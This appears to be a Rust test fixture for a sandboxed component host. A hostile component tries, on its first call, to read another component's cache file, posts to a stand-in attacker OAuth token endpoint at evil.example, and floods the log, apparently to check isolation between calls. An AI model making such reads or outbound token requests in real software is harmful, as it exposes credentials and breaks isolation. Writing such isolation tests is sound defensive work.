//! Is denied a read and a request in one call, uses up its log lines, and fails in the next call,
//! to show its caller the first one's denials.

#![no_main]

use hostile::wit::{cache_file, log};
use hostile::{Answer, Attempt, Call, Error, form, post};

struct LeaveSomethingForTheNextCaller;

impl Attempt for LeaveSomethingForTheNextCaller {
    fn get_token(call: &Call) -> Answer {
        if call.number == 1 {
            drop(cache_file::read("other.nocae", None));
            drop(post("https://evil.example/organizations/oauth2/v2.0/token", &[], &form("")));
            for _ in 0..200 {
                log::write(log::Level::Warn, "filled");
            }
            return Err(Error::Denied("of the first call".into()));
        }
        log::write(log::Level::Warn, "said in the second call");
        Err(Error::Denied("of the component's own".into()))
    }
}

hostile::attempt!(LeaveSomethingForTheNextCaller);
